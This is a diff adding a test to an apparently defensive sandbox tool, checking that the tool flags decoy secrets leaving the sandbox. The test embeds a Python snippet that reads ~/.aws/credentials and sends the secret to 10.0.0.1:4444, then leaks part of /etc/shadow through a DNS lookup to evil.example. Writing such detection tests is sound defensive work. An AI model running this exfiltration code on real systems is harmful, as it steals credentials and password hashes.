@@ -303,6 +303,27 @@ with open("/tmp/up/f", "w") as f:
 				{ decoy = "/etc/shadow", where = "stdout" } }, hits)
 		end)
 
+		it("a marker sent to the network sink or looked up is noted", function()
+			local _, _, code = run("--net", "sink", "true")
+			if code ~= 0 then return pending("--net sink does not run here") end
+			local _, err, code2 = run("--decoys", "--net", "sink", "python3", "-c", [[
+import socket
+data = open("/work/.aws/credentials").read()
+s = socket.create_connection(("10.0.0.1", 4444))
+s.sendall(data[data.index("aws_secret"):].encode())
+s.close()
+m = open("/etc/shadow").read().split("$")[3].split(":")[0]
+try:
+    socket.getaddrinfo(m + ".evil.example", 80)
+except OSError:
+    pass
+]])
+			assert.are.equal(0, code2, err)
+			assert.are.equal("sandbox: exit 0\n"
+				.. "sandbox: note: decoy ~/.aws/credentials's marker found in tcp 10.0.0.1:4444\n"
+				.. "sandbox: note: decoy /etc/shadow's marker found in a dns lookup\n", err)
+		end)
+
 		it("a marker is random per run", function()
 			local r1 = run_json("--decoys", "true")
 			local r2 = run_json("--decoys", "true")
